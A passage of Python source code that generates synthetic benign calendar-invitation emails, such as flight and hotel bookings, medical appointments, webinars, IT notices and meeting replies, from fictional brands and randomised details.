    return 'https://us0%dweb.zoom.us/j/%s?pwd=%s' % (rng.randint(2, 6), digits(rng, 11), rstr(rng, 32))


AIRLINES = {'en': [('NorthStar Airways', 'NS', 'northstar-air.com'), ('Atlantic Blue', 'AB', 'atlanticblue.com'),
                   ('Pacific Crest Airlines', 'PC', 'pacificcrest.aero')],
            'fr': [('Air Lumière', 'AL', 'airlumiere.fr')], 'nl': [('Dutchwings', 'DW', 'dutchwings.nl')],
            'tr': [('Anadolu Hava', 'AH', 'anadoluhava.com.tr')], 'ar': [('Gulf Falcon Air', 'GF', 'gulffalcon.ae')],
            'zh': [('东方航空快线', 'EX', 'eastexpress-air.cn')], 'ja': [('スカイ湾岸航空', 'SW', 'skywangan.jp')],
            'th': [('Siam Sky', 'SK', 'siamsky.co.th')]}
RAIL = {'en': ('Great Western Rail', 'gw-rail.co.uk'), 'fr': ('Rail Express Sud', 'res-train.fr'),
        'nl': ('Spoorlijn NL', 'spoorlijn.nl'), 'zh': ('铁路12306', 'rail12306.cn'), 'ja': ('JR東日本', 'jreast.jp'),
        'tr': ('TCDD Taşımacılık', 'tcddtasimacilik.gov.tr'), 'th': ('การรถไฟแห่งประเทศไทย', 'railway.co.th')}
AIRPORTS = {'en': ['London Heathrow (LHR)', 'New York JFK', 'Chicago O\'Hare (ORD)', 'Denver (DEN)', 'Boston (BOS)',
                   'San Francisco (SFO)', 'Dublin (DUB)', 'Toronto (YYZ)'],
            'fr': ['Paris-CDG', 'Lyon (LYS)', 'Nice (NCE)', 'Toulouse (TLS)'],
            'nl': ['Amsterdam Schiphol (AMS)', 'Eindhoven (EIN)', 'Rotterdam (RTM)'],
            'tr': ['İstanbul (IST)', 'Ankara (ESB)', 'İzmir (ADB)', 'Antalya (AYT)'],
            'ar': ['الرياض (RUH)', 'دبي (DXB)', 'جدة (JED)', 'القاهرة (CAI)'],
            'zh': ['上海虹桥 (SHA)', '北京首都 (PEK)', '广州白云 (CAN)', '成都天府 (TFU)'],
            'ja': ['羽田空港 (HND)', '関西国際空港 (KIX)', '新千歳空港 (CTS)', '福岡空港 (FUK)'],
            'th': ['สุวรรณภูมิ (BKK)', 'เชียงใหม่ (CNX)', 'ภูเก็ต (HKT)']}
STATIONS = {'en': ['London Paddington', 'Bristol Temple Meads', 'Cardiff Central', 'Reading', 'Bath Spa'],
            'fr': ['Paris Gare de Lyon', 'Marseille Saint-Charles', 'Lyon Part-Dieu', 'Montpellier Saint-Roch'],
            'nl': ['Amsterdam Centraal', 'Utrecht Centraal', 'Rotterdam Centraal'],
            'zh': ['北京南站', '上海虹桥站', '杭州东站', '南京南站'], 'ja': ['東京駅', '仙台駅', '新潟駅', '大宮駅'],
            'tr': ['Ankara YHT Garı', 'İstanbul Söğütlüçeşme', 'Konya'],
            'th': ['สถานีกลางกรุงเทพอภิวัฒน์', 'สถานีเชียงใหม่', 'สถานีหัวหิน']}


def c_travel_booking(m, e):
    rng = m.rng
    lang = m.lang
    B().set_rcpt(m, 0.35)
    k = m.kind or 'flight'
    if k == 'rail':
        brand, bdom = RAIL.get(lang, RAIL['en'])
        code = ''
    else:
        brand, code, bdom = rng.choice(AIRLINES.get(lang, AIRLINES['en']))
    if k == 'car':
        brand, bdom = rng.choice([('Rentway', 'rentway.com'), ('Autovia Rent', 'autovia-rent.com')])
    m.brand_title = brand
    if m.client in ('booking', 'script'):
        B().set_sender(m, 'service', None, (brand, bdom), local=rng.choice(['noreply', 'booking', 'confirmation',
                                                                            'no-reply', 'reservations']),
                       display=brand)
        m.prodid = '-//%s//%s//EN' % (brand if brand.isascii() else C.slug(bdom.split('.')[0]).title(),
                                      rng.choice(['Itinerary 2.0', 'e-Ticket', 'Booking Engine']))
    else:
        agent = C.person(rng, lang)
        agency = rng.choice([('Meridian Travel', 'meridian-travel.com'), ('Corporate Travel Desk', m.rcpt['domain']),
                             ('Voyages Horizon', 'voyages-horizon.fr'), ('Globetrek Business Travel', 'globetrek.biz')])
        B().set_sender(m, 'corp' if agency[1] != m.rcpt['domain'] or m.client not in ('google',) else 'corp', agent,
                       agency)
    froms = AIRPORTS.get(lang, AIRPORTS['en']) if k != 'rail' else STATIONS.get(lang, STATIONS['en'])
    a, b = rng.sample(froms, 2)
    st, en = C.event_time(rng, m.stz, m.arrival, (5, 60), (6, 20), (60, 300))
    if k == 'car':
        en = st + TD(days=rng.randint(2, 9))
    m.evp.update(start=st, end=en, method='PUBLISH' if m.client in ('booking', 'script') or rng.random() < .3
                 else 'REQUEST', location=a if rng.random() < 0.7 else None)
    if m.evp['method'] == 'PUBLISH':
        m.evp['rcpt_attendee'] = rng.random() < 0.3
        m.evp['org_attendee'] = False
    m.slots.update(carrier=brand, flight='%s %d' % (code or 'TR', rng.randint(100, 9899)), train=str(rng.randint(100, 9999)),
                   pnr=rstr(rng, 6, 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789'),
                   dep=fmt_when(lang, st), arr=fmt_when(lang, en),
                   terminal=rng.choice(['1', '2', '3', '5', 'A', 'B']), seat='%d%s' % (rng.randint(3, 38),
                                                                                       rng.choice('ABCDEF')),
                   coach=str(rng.randint(1, 16)) if lang != 'ja' else str(rng.randint(1, 16)),
                   amount=C.money(rng, lang, 89, 1450), url='https://www.%s/manage/%s' % (bdom, rstr(rng, 10, C.LOWD)),
                   phone=C.phone(rng, lang, True), **{'from': a, 'to': b})
    m.evp['alarms'] = [(rng.choice([120, 180, 1440]), None)] if rng.random() < 0.5 else None
    if k == 'flight' and m.client in ('booking', 'script', 'exchange', 'outlook') and rng.random() < 0.5:
        rs = st + TD(days=rng.randint(2, 12), hours=rng.randint(-5, 5))
        m.evp['extra_events'] = [{'S': e.get('S', '').replace('{from}', '{tmp}').replace('{to}', '{from}')
                                  .replace('{tmp}', '{to}'), 'start': rs, 'end': rs + (en - st), 'location': b}]


ADDR = {'en': ['12 Quay Street', '45 Elm Road', '210 Harbor Blvd', '8 Market Square'],
        'fr': ['3 rue des Tilleuls', '14 avenue Jean-Jaurès'], 'de': ['Hauptstraße 41', 'Seestraße 7'],
        'es': ['Calle Mayor 27', 'Av. del Puerto 112'], 'it': ['Via Roma 18', 'Corso Garibaldi 52'],
        'pt': ['Rua das Flores 22', 'Av. Paulista 1500'], 'nl': ['Oostweg 12', 'Kerkstraat 8'],
        'pl': ['ul. Floriańska 9', 'ul. Długa 14'], 'tr': ['İstiklal Cad. No:45'], 'ru': ['ул. Ленина, 5'],
        'el': ['Λεωφ. Συγγρού 112', 'Λεωφ. Βουλιαγμένης 88'], 'ar': ['طريق الملك فهد'], 'he': ['רחוב הרצל 14'],
        'zh': ['西湖区北山路88号'], 'ja': ['中央区銀座4-6-1'], 'ko': ['강남대로 123'], 'hi': ['एम.जी. रोड 21'],
        'th': ['88 ถนนเจริญราษฎร์']}

HOTELS = {'en': ['The Harbour Hotel', 'Riverside Inn & Suites', 'Hotel Marlowe', 'The Granary', 'Oakwood Lodge'],
          'de': ['Hotel Seeblick', 'Gasthof zur Linde', 'Parkhotel Am Rhein'], 'it': ['Hotel Bellavista',
                                                                                       'Trattoria da Gino'],
          'pl': ['Hotel Pod Wawelem', 'Restauracja Stary Młyn'], 'el': ['Ξενοδοχείο Αιγαίον', 'Ταβέρνα Ο Μύλος'],
          'zh': ['西湖花园酒店', '锦江宾馆'], 'th': ['Lanna Riverside Resort', 'บ้านสวนรีสอร์ท'],
          'fr': ['Hôtel du Parc'], 'es': ['Hotel Miramar']}


def c_hospitality_booking(m, e):
    rng = m.rng
    lang = m.lang
    B().set_rcpt(m, 0.3)
    venue = rng.choice(HOTELS.get(lang, HOTELS['en']))
    vdom = (C.slug(C.ascii_fold(venue)) or 'venue-' + rstr(rng, 5, C.LOW)) + rng.choice(['.com', '.net']) \
        if C.slug(C.ascii_fold(venue)) else 'hotel-' + rstr(rng, 6, C.LOW) + '.com'
    m.brand_title = venue
    if m.client in ('booking', 'script'):
        plat = rng.choice([(venue, vdom), ('StayPoint', 'staypoint.com'), ('TableNow', 'tablenow.eu'),
                           ('Hotelia Reservations', 'hotelia.net')])
        B().set_sender(m, 'service', None, plat, local=rng.choice(['noreply', 'reservations', 'booking']),
                       display=plat[0])
    else:
        B().set_sender(m, 'corp' if rng.random() < .7 else 'free', C.person(rng, lang), (venue, vdom),
                       local=rng.choice(['reservations', 'frontdesk', 'info', None]), display=venue)
    ci, co = C.event_time(rng, m.stz, m.arrival, (7, 75), (15, 20), (60, 60))
    nights = rng.randint(1, 6)
    k = m.kind or 'hotel'
    if k in ('hotel', 'apartment'):
        m.evp['allday'] = rng.random() < 0.5
        m.evp['alldays'] = nights
        co = ci + TD(days=nights)
    m.evp.update(start=ci, end=co if k in ('hotel', 'apartment') else ci + TD(hours=2),
                 method='PUBLISH' if m.client in ('booking', 'script') or rng.random() < 0.4 else 'REQUEST')
    if m.evp['method'] == 'PUBLISH':
        m.evp['rcpt_attendee'] = rng.random() < 0.3
        m.evp['org_attendee'] = False
    from .data import fmt_when
    m.slots.update(venue=venue, conf=digits(rng, 10) if rng.random() < .5 else rstr(rng, 8, 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789'),
                   checkin=fmt_when(lang, ci, False), checkout=fmt_when(lang, ci + TD(days=nights), False),
                   nights=nights, amount=C.money(rng, lang, 90, 1900), party=rng.randint(2, 8),
                   addr=rng.choice(ADDR.get(lang, ADDR['en'])),
                   phone=C.phone(rng, lang), url='https://%s/booking/%s' % (vdom, rstr(rng, 12, C.LOWD)),
                   show=rng.choice(['The Lighthouse (matinee)', 'Jazz Night', 'Escape Room "Vault 9"']))
    m.evp['location'] = venue + ', ' + m.slots['addr']


DOCTORS = {'en': ['Dr. Emily Carter', 'Dr. Raj Malhotra', 'Dr. Susan Park'], 'fr': ['Dr Claire Martin'],
           'es': ['Dra. Isabel Moreno'], 'nl': ['Huisartsenpraktijk De Linde'], 'el': ['Δρ. Νίκος Λαμπρόπουλος'],
           'he': ['ד"ר רונית אלון'], 'ko': ['김정훈 원장']}


def c_medical_appointment(m, e):
    rng = m.rng
    lang = m.lang
    B().set_rcpt(m, 0.2)
    doc = rng.choice(DOCTORS.get(lang, DOCTORS['en']))
    clinic = rng.choice({'en': ['Riverside Family Practice', 'Bluewater Dental', 'Northgate Medical Centre'],
                         'fr': ['Cabinet médical des Tilleuls'], 'es': ['Clínica Dental Sonrisa'],
                         'nl': ['Gezondheidscentrum Oost'], 'el': ['Ιατρικό Κέντρο Γλυφάδας'],
                         'he': ['מרפאת השרון'], 'ko': ['서울밝은내과']}.get(lang, ['Medical Centre']))
    cdom = (C.slug(C.ascii_fold(clinic)) or 'clinic-' + rstr(rng, 5, C.LOW)) + '.' + rng.choice(['com', 'net', 'org'])
    if C.slug(C.ascii_fold(clinic)) == '':
        cdom = 'clinic-%s.com' % rstr(rng, 5, C.LOW)
    sched = rng.choice([('Medicall', 'medicall.app'), ('Praxisplaner', 'praxisplaner.eu'), ('CareSlot', 'careslot.com'),
                        (clinic, cdom)])
    m.brand_title = sched[0]
    if m.client in ('booking', 'script'):
        B().set_sender(m, 'service', None, sched, local=rng.choice(['noreply', 'appointments', 'reminder']),
                       display=clinic if rng.random() < 0.5 else sched[0])
    else:
        B().set_sender(m, 'corp' if rng.random() < 0.6 else 'free', C.person(rng, lang), (clinic, cdom),
                       local=rng.choice(['reception', 'info', 'appointments', None]), display=clinic)
    m.evp.update(days=(2, 40), dur=(15, 45), hours=(8, 17),
                 method='PUBLISH' if m.client in ('booking', 'script') or rng.random() < .5 else 'REQUEST')
    if m.evp['method'] == 'PUBLISH':
        m.evp['rcpt_attendee'] = rng.random() < 0.4
        m.evp['org_attendee'] = False
    m.slots.update(doctor=doc, clinic=clinic, phone=C.phone(rng, lang),
                   url='https://%s/appointments/%s' % (sched[1], rstr(rng, 16, C.LOWD)),
                   addr=rng.choice(ADDR.get(lang, ADDR['en'])),
                   code=digits(rng, 6))
    m.evp['location'] = clinic + ', ' + m.slots['addr']
    m.evp['alarms'] = [(1440, None)] if rng.random() < 0.4 else None


VENDORS = {'en': [('Cloudmesa', 'cloudmesa.io'), ('Datavine', 'datavine.com'), ('Ledgerly', 'ledgerly.com'),
                  ('Orbitly Analytics', 'orbitly.io'), ('SecureStack', 'securestack.com')],
           'es': [('Nubeda', 'nubeda.es')], 'pt': [('Contabilize', 'contabilize.com.br')],
           'ar': [('Tamkeen Digital', 'tamkeen-digital.sa')], 'zh': [('云启科技', 'yunqi-tech.cn')],
           'ja': [('クラウドワン', 'cloudone.co.jp')], 'hi': [('Vyapar Cloud', 'vyaparcloud.in')]}
TOPICS = {'en': ['Zero-trust networking in practice', 'What’s new in Datavine 8', 'Closing the books faster',
                 'Scaling Kubernetes cost-effectively', 'AI for customer support teams'],
          'es': ['Novedades de la facturación electrónica'], 'pt': ['Reforma tributária na prática'],
          'ar': ['التحول الرقمي في القطاع المالي'], 'zh': ['企业数字化转型峰会'], 'ja': ['クラウド移行の最新事例'],
          'hi': ['GST अनुपालन 2025']}


def c_webinar_conference(m, e):
    rng = m.rng
    lang = m.lang
    B().set_rcpt(m, 0.85)
    v = rng.choice(VENDORS.get(lang, VENDORS['en']))
    who = C.person(rng, lang)
    if m.client == 'zoom':
        B().set_sender(m, 'service', who, v, display=v[0])
    elif m.client in ('booking', 'script'):
        B().set_sender(m, 'service', who, v, local=rng.choice(['events', 'webinars', 'marketing', 'noreply']),
                       display=v[0] + rng.choice([' Events', '', ' Team']))
    else:
        B().set_sender(m, 'corp', who, v)
    meet_links(m)
    n = rng.randint(150, 700) if rng.random() < 0.6 else rng.randint(5, 40)
    if m.client not in ('zoom',) and rng.random() < 0.8:
        m.evp['attendees'] = crowd_atts(m, n, n, same_domain_share=0.1)
        m.evp['shuffle_att'] = False
    if m.client in ('zoom', 'booking', 'script') and rng.random() < 0.7:
        m.evp['method'] = 'PUBLISH'
        m.evp['org_attendee'] = False
        m.evp['rcpt_attendee'] = rng.random() < .4
        m.evp['attendees'] = []
    z = zoom_link(rng)
    url = m.zoom or (m.teams[0] if m.teams else m.meet) or z
    m.slots.update(vendor=v[0], topic=rng.choice(TOPICS.get(lang, TOPICS['en'])), url=url,
                   code=rstr(rng, 3, 'ABCDEFGHJKLMNPQRSTUVWXYZ') + digits(rng, 2), pct=rng.choice([20, 25, 30, 40]),
                   phone=C.phone(rng, lang), city=rng.choice(CITY.get(lang, CITY['en'])),
                   site='https://www.%s/events/%s' % (v[1], rstr(rng, 8, C.LOWD)))
    m.evp.update(days=(3, 45), hours=(9, 17), dur=(45, 90))
    if rng.random() < 0.25 and m.client in ('google', 'script', 'booking'):
        m.evp['attach'] = [('https://www.%s/assets/agenda-%s.pdf' % (v[1], rstr(rng, 6, C.LOWD)), 'application/pdf',
                            'Agenda.pdf')]
    if m.kind == 'conference':
        m.evp['allday'] = True
        m.evp['alldays'] = rng.randint(1, 3)
    if m.client == 'zoom':
        m.evp['location'] = m.zoom or z


GROUPS = {'en': ['Maple Street PTA', 'St. Anne\'s Choir', 'Riverside U10 Football', 'Tuesday Book Club',
                 'Oakhurst Scouts'], 'fr': ['Chorale Saint-Michel'], 'it': ['Coro parrocchiale'],
          'nl': ['Buurtvereniging De Esch'], 'el': ['Σύλλογος Γονέων 3ου Δημοτικού'], 'he': ['ועד הורים'],
          'hi': ['योग समूह']}


PLACES = {'en': ['the school library', 'the parish hall', 'Field 3, Riverside Park', 'the community centre',
                  'room 12'],
          'fr': ['la salle paroissiale', 'la salle des fêtes'], 'it': ['la sala parrocchiale', 'l\'oratorio'],
          'nl': ['het buurthuis', 'de kantine van de sportclub'], 'el': ['την αίθουσα του σχολείου'],
          'he': ['ספריית בית הספר', 'המתנ"ס השכונתי'], 'hi': ['सामुदायिक भवन', 'पार्क के योग मंडप']}


def c_community_series(m, e):
    rng = m.rng
    lang = m.lang
    B().set_rcpt(m, 0.15)
    who = C.person(rng, lang)
    B().set_sender(m, 'free', who, None)
    gk = {'pta': ('Maple Street PTA', 'the school library'), 'choir': ("St. Anne's Choir", 'the parish hall'),
          'football': ('Riverside U10 Football', 'Field 3, Riverside Park'),
          'bookclub': ('Tuesday Book Club', 'the community centre'), 'scouts': ('Oakhurst Scouts', 'the scout hut')}
    g, pl = gk.get(m.kind, (None, None)) if lang == 'en' else (None, None)
    m.slots.update(group=g or rng.choice(GROUPS.get(lang, GROUPS['en'])),
                   place=pl or rng.choice(PLACES.get(lang, PLACES['en'])),
                   phone=C.mobile(rng, lang))
    byday = rng.choice(['MO', 'TU', 'WE', 'TH', 'FR', 'SA'])
    freq = rng.choice(['FREQ=WEEKLY;BYDAY=%s' % byday, 'FREQ=WEEKLY;BYDAY=%s' % byday,
                       'FREQ=MONTHLY;BYDAY=1%s' % byday, 'FREQ=WEEKLY;INTERVAL=2;BYDAY=%s' % byday,
                       'FREQ=MONTHLY;BYDAY=-1%s' % byday])
    m.evp['rrule'] = freq
    m.evp['hours'] = (16, 20)
    m.evp['days'] = (2, 14)
    n = rng.randint(8, 60)
    m.evp['attendees'] = B().crowd(rng, n, (lang,), None, exclude=(m.rcpt['addr'], m.rcpt['name']))
    if rng.random() < 0.5:
        m.to = [(a['name'], a['addr']) for a in m.evp['attendees'][:rng.randint(3, 20)]] + m.to


def c_it_notice(m, e):
    rng = m.rng
    lang = m.lang
    o = C.org(rng, lang)
    B().set_rcpt(m, 1.0, dom=o[1], orgname=o[0])
    who = C.person(rng, lang)
    B().set_sender(m, 'corp', who, o, local=rng.choice(['it-service', 'servicedesk', 'it', 'helpdesk', None]),
                   display=rng.choice(['IT Service Desk', 'IT-Service', o[0] + ' IT', who['name']]))
    m.slots.update(org=o[0], url='https://%s.%s/%s' % (rng.choice(['sso', 'password', 'myaccount', 'it', 'portal',
                                                                   'selfservice']), o[1],
                                                       rng.choice(['reset', 'change', 'mfa', 'kb/%s' % digits(rng, 4),
                                                                   ''])),
                   system=rng.choice(['e-mail', 'VPN', 'SAP', 'file server', 'ERP', 'Wi-Fi']),
                   phone='%s %s' % (C.phone(rng, lang), rng.choice(['', '(ext. 4357)', ''])),
                   ticket='CHG%s' % digits(rng, 7), days=rng.choice([7, 10, 14]))
    n = rng.randint(30, 400)
    if rng.random() < 0.5:
        m.evp['attendees'] = B().crowd(rng, n, (lang,), [o[1]], exclude=(m.rcpt['addr'], m.rcpt['name']))
    else:
        m.to = [('All staff', 'all-staff@' + o[1])]
        m.evp['attendees'] = [{'name': 'All staff', 'addr': 'all-staff@' + o[1], 'cutype': 'GROUP'}]
        m.evp['rcpt_attendee'] = False
    m.evp.update(hours=(18, 22), days=(2, 14), dur=(60, 240), transp='TRANSPARENT' if rng.random() < .5 else 'OPAQUE')
    if m.kind == 'training':
        m.evp['hours'] = (9, 15)
        meet_links(m)


def c_colleague_docshare(m, e):
    rng = m.rng
    lang = m.lang
    o = C.org(rng, lang)
    B().set_rcpt(m, 1.0, dom=o[1], orgname=o[0])
    ext = rng.random() < 0.3
    so = C.org(rng, lang) if ext else o
    who, _ = ham_corp_sender(m, so)
    meet_links(m)
    t = C.slug(o[0]).replace('-', '')
    links = ['https://%s.sharepoint.com/:w:/s/%s/%s' % (t, rng.choice(['Finance', 'Projects', 'Team', 'Sales']),
                                                        rstr(rng, 40)),
             'https://docs.google.com/document/d/%s/edit?usp=sharing' % rstr(rng, 44),
             'https://docs.google.com/presentation/d/%s/edit' % rstr(rng, 44),
             'https://%s.atlassian.net/wiki/spaces/%s/pages/%s' % (t, rstr(rng, 3, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'),
                                                                   digits(rng, 9)),
             'https://www.dropbox.com/scl/fi/%s/%s?rlkey=%s&dl=0' % (rstr(rng, 20, C.LOWD), rng.choice(
                 ['Board_pack.pdf', 'Draft_v3.docx', 'Budget.xlsx']), rstr(rng, 25, C.LOWD)),
             'https://www.overleaf.com/project/%s' % hexs(rng, 24),
             'https://www.figma.com/file/%s/%s' % (rstr(rng, 22), rng.choice(['Checkout-redesign', 'Onboarding-v2'])),
             'https://cloud.%s/s/%s' % (o[1], rstr(rng, 15))]
    url = rng.choice(links)
    if 'google' in url and m.client != 'google' and rng.random() < 0.5:
        url = links[0]
    m.slots.update(doc=rng.choice(['Q3 budget v4', 'Vendor contract (redline)', 'Launch deck', 'Board pack',
                                   'Sprint 42 retro notes', 'Paper draft', 'Checkout redesign']), url=url)
    if rng.random() < 0.7 and m.client == 'google':
        m.evp['attach'] = [(url if 'google' in url else 'https://drive.google.com/open?id=' + rstr(rng, 33),
                            'application/vnd.google-apps.document', m.slots['doc'])]
    elif rng.random() < 0.5 and m.client == 'nextcloud':
        m.evp['attach'] = [('/f/%d' % rng.randint(1000, 99999), 'application/pdf', m.slots['doc'] + '.pdf')]
    m.evp['attendees'] = B().crowd(rng, rng.randint(1, 8), (lang,), [o[1]], exclude=(m.rcpt['addr'], m.rcpt['name']))
    m.evp['days'] = (1, 10)


def c_finance_reminder(m, e):
    rng = m.rng
    lang = m.lang
    o = C.org(rng, lang)
    k = m.kind or 'reminder'
    if k in ('reminder', 'dunning'):
        # a supplier's AR team reminds the customer (the recipient)
        B().set_rcpt(m, 1.0)
        who, _ = ham_corp_sender(m, o, local=rng.choice(['accounts', 'ar', 'billing', 'finance', None]))
    else:
        B().set_rcpt(m, 1.0, dom=o[1], orgname=o[0])
        who, _ = ham_corp_sender(m, o)
    meet_links(m)
    from .data import fmt_when
    m.slots.update(invoice='%s-%s' % (rng.choice(['INV', 'RE', 'FA', 'F']), digits(rng, 6)),
                   amount=C.money(rng, lang, 300, 48000), vendor=o[0], org=o[0],
                   phone=C.phone(rng, lang), iban=iban(rng, lang),
                   url='https://%s.%s/%s' % (rng.choice(['pay', 'billing', 'portal']), o[1], rstr(rng, 10, C.LOWD)),
                   due=fmt_when(lang, from_utc(m.stz, m.arrival) + TD(days=rng.randint(3, 14)), False))
    if rng.random() < 0.4:
        m.evp['attendees'] = B().crowd(rng, rng.randint(2, 25), (lang,), [m.rcpt['domain']],
                                       exclude=(m.rcpt['addr'], m.rcpt['name']))
    if k in ('reminder', 'dunning') and rng.random() < 0.5:
        m.evp['allday'] = True
        m.evp['transp'] = 'TRANSPARENT'


def c_recruiter(m, e):
    rng = m.rng
    lang = m.lang
    B().set_rcpt(m, 0.3)
    comp = C.org(rng, lang)
    agency = rng.random() < 0.4
    corp = (rng.choice(['Talentbridge Partners', 'Harbor Search', 'Northwind Recruitment']),
            rng.choice(['talentbridge.co', 'harborsearch.com', 'northwind-recruit.com'])) if agency else comp
    who = C.person(rng, lang)
    if m.client in ('booking', 'script'):
        B().set_sender(m, 'service', who, corp, local=rng.choice(['no-reply', 'careers', 'interviews', 'recruiting']),
                       display=comp[0] + ' Recruiting')
    else:
        B().set_sender(m, 'corp' if m.client != 'yahoo' and m.client != 'icloud' else 'free', who, corp)
    meet_links(m)
    url = m.zoom or (m.teams[0] if m.teams else m.meet) or zoom_link(rng)
    m.slots.update(company=comp[0], role=rng.choice(['Senior Data Engineer', 'Product Manager', 'Financial Controller',
                                                      'UX Designer', 'Site Reliability Engineer', 'Account Executive']),
                   url=url, phone=C.phone(rng, lang))
    m.evp.update(days=(2, 12), dur=(30, 60), hours=(9, 17))
    if rng.random() < 0.5:
        m.evp['attendees'] = B().crowd(rng, rng.randint(1, 4), (lang,), [comp[1]], exclude=(m.rcpt['addr'], m.rcpt['name']))
    if m.client == 'zoom':
        m.evp['location'] = url


def c_forwarded_invite(m, e):
    rng = m.rng
    lang = m.lang
    o = C.org(rng, lang)
    B().set_rcpt(m, 1.0, dom=o[1], orgname=o[0])
    fwd_who = C.person(rng, lang)
    if m.client == 'google':
        m.render_client = 'gmail'
    B().set_sender(m, 'corp' if m.client not in ('yahoo', 'icloud') else 'free', fwd_who, o)
    if m.client == 'google':
        m.infra_kind = 'gmail'
    oo = C.org(rng, lang if rng.random() < .6 else 'en')
    orig = C.person(rng, lang)
    org_addr = '%s@%s' % (C.local_variant(rng, orig['local']), oo[1])
    m.evp['org_addr'] = org_addr
    m.evp['org_name'] = orig['name']
    m.evp['org_attendee'] = False
    m.evp['attendees'] = [{'name': fwd_who['name'], 'addr': m.org_addr, 'partstat': 'ACCEPTED'}] + \
        B().crowd(rng, rng.randint(1, 12), (lang, 'en'), None, exclude=(m.rcpt['addr'], m.rcpt['name']))
    m.evp['rcpt_attendee'] = m.client in ('exchange', 'outlook', 'teams', 'zimbra') or rng.random() < 0.3
    meet_links(m)
    m.slots.update(oname=orig['name'], oorg=oo[0], url=(m.teams[0] if m.teams else m.meet) or zoom_link(rng))
    from .core import rfcdate
    m.fwd = {'from_name': orig['name'], 'from_addr': org_addr, 'date': rfcdate(m.arrival - TD(days=rng.randint(1, 6)), 60),
             'subject': None, 'to': m.org_addr, 'note': None}
    m.fwd_pending = True


def c_mailing_list_copy(m, e):
    rng = m.rng
    lang = m.lang
    B().set_rcpt(m, 0.5)
    who = C.person(rng, lang)
    mode = 'free' if rng.random() < .5 else 'corp'
    B().set_sender(m, mode, who, C.org(rng, lang) if mode == 'corp' else None)
    meet_links(m)
    proj = rng.choice(['openvault', 'pyweb', 'geo-tools', 'rust-embedded', 'local-lug', 'stats-seminar', 'tsc',
                       'dev-announce', 'linux-users'])
    host = 'lists.' + rng.choice(['openvault.org', 'pyweb.dev', 'geotools.example.org', 'lug-%s.org' % rstr(rng, 4, C.LOW),
                                  'math.uni-%s.example' % rstr(rng, 5, C.LOW)])
    m.lst = {'name': proj, 'tag': proj, 'host': host, 'addr': '%s@%s' % (proj, host.replace('lists.', '', 0)),
             'id': '%s.%s' % (proj, host), 'sign': rng.random() < 0.5, 'munge': rng.random() < 0.4}
    m.lst['addr'] = '%s@%s' % (proj, host)
    m.to = [('', m.lst['addr'])]
    m.evp['rcpt_attendee'] = False
    m.evp['attendees'] = [{'name': proj, 'addr': m.lst['addr'], 'cutype': 'GROUP'}]
    url = m.meet or (m.teams[0] if m.teams else None) or rng.choice(
        [zoom_link(rng), 'https://meet.jit.si/%s-%s' % (proj, rstr(rng, 6, C.LOW)),
         'https://bbb.%s/b/%s' % (host.replace('lists.', ''), rstr(rng, 12, C.LOWD))])
    m.slots.update(list=proj, url=url, topic=rng.choice(['release planning', 'governance', 'roadmap', 'CI outage '
                                                                                                     'post-mortem']))
    if rng.random() < 0.5:
        m.evp['rrule'] = rng.choice(['FREQ=WEEKLY;BYDAY=TH', 'FREQ=MONTHLY;BYDAY=2WE', 'FREQ=WEEKLY;INTERVAL=2;BYDAY=TU'])
    m.evp['days'] = (2, 20)


def c_reply_cancel(m, e):
    rng = m.rng
    lang = m.lang
    k = m.kind or 'accept'
    o = C.org(rng, lang)
    B().set_rcpt(m, 0.85, dom=o[1] if rng.random() < 0.8 else None, orgname=o[0])
    who = C.person(rng, lang)
    other = C.org(rng, lang) if rng.random() < 0.4 else o
    B().set_sender(m, 'corp' if m.client not in ('yahoo', 'icloud') else 'free', who,
                   other if other[1] != m.rcpt['domain'] or m.client not in ('yahoo', 'icloud') else None)
    m.evp['days'] = (1, 20)
    if k in ('accept', 'decline', 'tentative'):
        m.evp['method'] = 'REPLY'
        ps = {'accept': 'ACCEPTED', 'decline': 'DECLINED', 'tentative': 'TENTATIVE'}[k]
        m.evp['org_addr'] = m.rcpt['addr']
        m.evp['org_name'] = m.rcpt['name']
        m.evp['reply_att'] = [{'name': who['name'], 'addr': m.org_addr, 'partstat': ps, 'rsvp': False}]
        m.evp['comment'] = e.get('C')
        m.evp['seq'] = rng.choice([0, 0, 1, 2])
        m.force_uid_from_rcpt = True
        m.evp['alarms'] = []
    else:
        m.evp['method'] = 'CANCEL'
        m.evp['status'] = 'CANCELLED'
        m.evp['seq'] = rng.randint(1, 3)
        m.evp['attendees'] = B().crowd(rng, rng.randint(1, 10), (lang,), [m.rcpt['domain'], other[1]],
                                       exclude=(m.rcpt['addr'], m.rcpt['name']))
        m.evp['alarms'] = []
        if m.client in ('exchange', 'teams'):
            pass


def c_personal_family(m, e):
    rng = m.rng
    lang = m.lang
    B().set_rcpt(m, 0.1)
    who = C.person(rng, lang)
    B().set_sender(m, 'free', who, None)
    m.slots.update(place=rng.choice({'es': ['casa de los abuelos', 'el parque del Retiro'],
                                     'pt': ['nossa casa'], 'ru': ['нашей даче']}.get(lang, ['our place',
                                     'the park by the lake', 'Luigi\'s', 'the cabin'])),
                   addr=rng.choice(['14 Willow Lane', 'Rua das Flores 22', 'Kerkstraat 8', 'ул. Ленина 5, кв. 12',
                                    '서울 마포구 월드컵로 45', 'ซอยสุขุมวิท 39', 'Calle Olivo 3']),
                   phone=C.mobile(rng, lang))
    m.evp.update(days=(3, 40), hours=(11, 19), dur=(120, 240))
    m.evp['attendees'] = B().crowd(rng, rng.randint(2, 25), (lang,), None, exclude=(m.rcpt['addr'], m.rcpt['name']))
    if m.kind == 'save-the-date':
        m.evp['allday'] = True
        m.evp['days'] = (90, 300)


def c_support_callback(m, e):
    rng = m.rng
    lang = m.lang
    B().set_rcpt(m, 0.5)
    v = rng.choice(VENDORS.get(lang, VENDORS['en']) + [('Fibernet', 'fibernet-broadband.com'),
                                                       ('HomeTech Repairs', 'hometech-repairs.com')])
    who = C.person(rng, lang)
    if m.client in ('booking', 'script', 'zoom'):
        B().set_sender(m, 'service', who, v, local=rng.choice(['support', 'noreply', 'help', 'care']),
                       display=v[0] + rng.choice([' Support', ' Customer Care', '']))
    else:
        B().set_sender(m, 'corp', who, v)
    meet_links(m)
    case = digits(rng, 8)
    m.slots.update(vendor=v[0], case=case, phone=m.rcpt.get('phone') or C.mobile(rng, lang),
                   sphone=C.phone(rng, lang, True),
                   url='https://support.%s/case/%s' % (v[1], case), product=rng.choice(['router', 'account',
                                                                                         'subscription', 'laptop']))
    m.evp.update(days=(0, 5), dur=(15, 60), hours=(9, 17))
